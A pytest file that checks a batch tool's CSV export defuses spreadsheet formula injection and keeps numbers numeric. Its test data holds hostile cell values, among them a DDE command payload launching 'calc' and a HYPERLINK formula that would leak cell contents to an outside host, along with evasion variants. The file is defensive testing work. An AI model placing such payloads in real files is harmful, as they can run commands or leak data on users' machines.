"""The table for spreadsheets: what is text stays text, what is a number stays one."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from typing import TYPE_CHECKING

import msgspec
import pytest

from batchgen.errors import UsageError
from batchgen.model import Attempt, Failure, ImageFile, Item, Outcome, Tokens, content_key
from batchgen.spreadsheet import COLUMNS, results_as_csv, safe_cell
from batchgen.store.expanded import write_items
from batchgen.store.ledger import Run
from tests.hostile import NAMES, PAYLOADS

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

AT = "2026-11-21T03:00:04.120Z"
DDE = "cmd|' /C calc'!A0"
# What is written, and what a reader of CSV finds.
CELLS = [
    ("=1+1", "'=1+1"),
    (f"={DDE}", f"'={DDE}"),
    (f"+{DDE}", f"'+{DDE}"),
    (f"-{DDE}", f"'-{DDE}"),
    ("@SUM(1+1)*" + DDE, "'@SUM(1+1)*" + DDE),
    ('=HYPERLINK("https://x.invalid/?"&A1;"x")', '\'=HYPERLINK("https://x.invalid/?"&A1;"x")'),
    ('"=1+1"', '\'"=1+1"'),
    ("  =1", "'=1"),
    ("\u00a0=1", "'=1"),
    ("\u3000=1", "'=1"),
    ("\t=1", "'=1"),
    ("\r=1", "'=1"),
    ("\n=1", "'=1"),
    ("\r\n=1", "'=1"),
    ("\0=1", "'=1"),
    ("\x1b=1", "'=1"),
    ("\tplain", "'plain"),
    ("\rplain", "'plain"),
    ("\0plain", "'plain"),
    ("\uff1d1", "'\uff1d1"),
    ("\uff0b1", "'\uff0b1"),
    ("\uff0d1", "'\uff0d1"),
    ("\uff20x", "'\uff20x"),
    ("\ufe661", "'\ufe661"),
    ("\u22121", "'\u22121"),
    ("\u207c1", "'\u207c1"),
    ("a;=1+1", "a;'=1+1"),
    ('a";=1+1;"', 'a";\'=1+1;"'),
    ("a; \uff1d1;-2", "a;' \uff1d1;'-2"),
    ("-", "'-"),
    ("-5", "'-5"),
    ("--help", "'--help"),
    ("=", "'="),
    ("a=b", "a=b"),
    ("a, -b", "a, -b"),
    ("1-2", "1-2"),
    ("mail@host", "mail@host"),
    ("'quoted", "'quoted"),
    ("two\nlines\r\nand\ttabs", "two lines and tabs"),
    ("a\0b\x07c", "a b c"),
    ('say "no", or; yes', 'say "no", or; yes'),
    ("\ud800", "\ufffd"),
    ("", ""),
    ("012", "012"),
    ("x" * 40_000, "x" * 31_999 + "…"),
]


def written(root: Path, items: list[Item], *lines: Attempt) -> list[dict[str, str]]:
    """The table of items by what a ledger says of them, as a reader of CSV finds it."""
    head = Run(run_id="r1", at=AT, job="j", job_sha256="0", provider="p", version="")
    (root / "ledger").mkdir(parents=True)
    data = b"".join(msgspec.json.encode(line) + b"\n" for line in (head, *lines))
    (root / "ledger/r1.jsonl").write_bytes(data)
    write_items(root / "items.jsonl", items)
    return read(b"".join(results_as_csv(root)))


def read(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    assert text.endswith("\r\n")
    # A line an item: no line break of any kind stands inside a cell.
    rows = list(csv.DictReader(io.StringIO(text, newline=""), strict=True))
    assert text.count("\n") == text.count("\r") == len(rows) + 1 == len(text.splitlines())
    return rows


def keyed(**known: object) -> Item:
    item = Item(id="a", model="m", prompt="p")
    item = msgspec.structs.replace(item, **known)
    return msgspec.structs.replace(item, key=content_key(item))


def failed(item: Item, message: str) -> Attempt:
    return Attempt(
        run_id="r1",
        item=item.id,
        key=item.key,
        turn=1,
        attempt=1,
        at=AT,
        model=item.model,
        provider="p",
        outcome=Outcome.BAD_REQUEST,
        decision="failed",
        error=Failure(kind="BadRequest", message=message),
        cost_basis="unknown",
        billed="no",
    )


@pytest.mark.parametrize(("text", "cell"), CELLS)
def test_a_text_is_shown_and_never_run(
    text: str, cell: str, tmp_path: Path, tried: Callable[[str, int, str], None]
) -> None:
    assert safe_cell(text) == cell
    clean = text.replace("\ud800", "\ufffd")
    item = keyed(tags={"t": clean, f"{clean}": "x"}, model=clean)
    (row,) = written(tmp_path, [item], failed(item, clean))
    assert row["error"] == row["tags.t"] == row["model"] == cell
    assert all(name.split(".")[0] in {"tags", "tokens", *COLUMNS} for name in row)
    tried("P36", 1, "cells")


def test_nothing_hostile_begins_a_cell_or_what_a_semicolon_would_make_one(
    tmp_path: Path, tried: Callable[[str, int, str], None]
) -> None:
    words = [
        f"{before}{trigger}{name}".encode("utf-8", "replace").decode()
        for name in (*NAMES, *PAYLOADS)
        for trigger in "=+-@"
        for before in ("", "\t", " ", ";", 'x";', "\0")
    ]
    items = [keyed(id=f"i{n}", tags={"t": word}) for n, word in enumerate(words)]
    rows = written(tmp_path, items, *map(failed, items, words))
    assert len(rows) == len(words)
    for row in rows:
        for cell in (row["error"], row["tags.t"]):
            for part in cell.split(";"):
                assert part.strip(' "')[:1] not in {"=", "+", "-", "@"} or not part
    tried("P36", len(words), "cells")


def test_numbers_stay_numbers_and_what_is_not_known_stays_empty(tmp_path: Path) -> None:
    done, fresh = keyed(id="done", tags={"sku": "012"}), keyed(id="new", prompt="q")
    image = ImageFile(
        path="images/done.png", role="final", sha256="", bytes=1, width=1, height=1, mime=None
    )
    line = msgspec.structs.replace(
        failed(done, ""),
        outcome=Outcome.IMAGE,
        decision="done",
        error=None,
        images=(image,),
        tokens=Tokens(input_text=20, output_image=1120),
        cost_usd=Decimal("0.138160"),
        cost_basis="reported",
        billed="yes",
    )
    first, second = written(tmp_path, [done, fresh], line)
    assert tuple(first)[: len(COLUMNS)] == COLUMNS
    assert first == {
        "id": "done",
        "status": "done",
        "picture": "images/done.png",
        "model": "m",
        "outcome": "image",
        "attempts": "1",
        "cost_usd": "0.138160",
        "tokens.input_text": "20",
        "tokens.input_image": "0",
        "tokens.output_text": "0",
        "tokens.output_image": "1120",
        "tokens.thoughts": "0",
        "error": "",
        "run_id": "r1",
        "finished_at": AT,
        "tags.sku": "012",
    }
    assert (second["status"], second["cost_usd"], second["attempts"]) == ("pending", "", "0")
    # Bare: a reader that tells text from numbers by the quotes finds numbers.
    data = b"".join(results_as_csv(tmp_path)).decode("utf-8-sig")
    rows = csv.reader(io.StringIO(data, newline=""), quoting=csv.QUOTE_NONNUMERIC)
    figures: list[object] = [*list(rows)[1][5:12]]
    assert figures == [1.0, 0.13816, 20.0, 0.0, 0.0, 1120.0, 0.0]


def test_a_directory_without_a_run_has_no_table(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="holds no run"):
        list(results_as_csv(tmp_path))
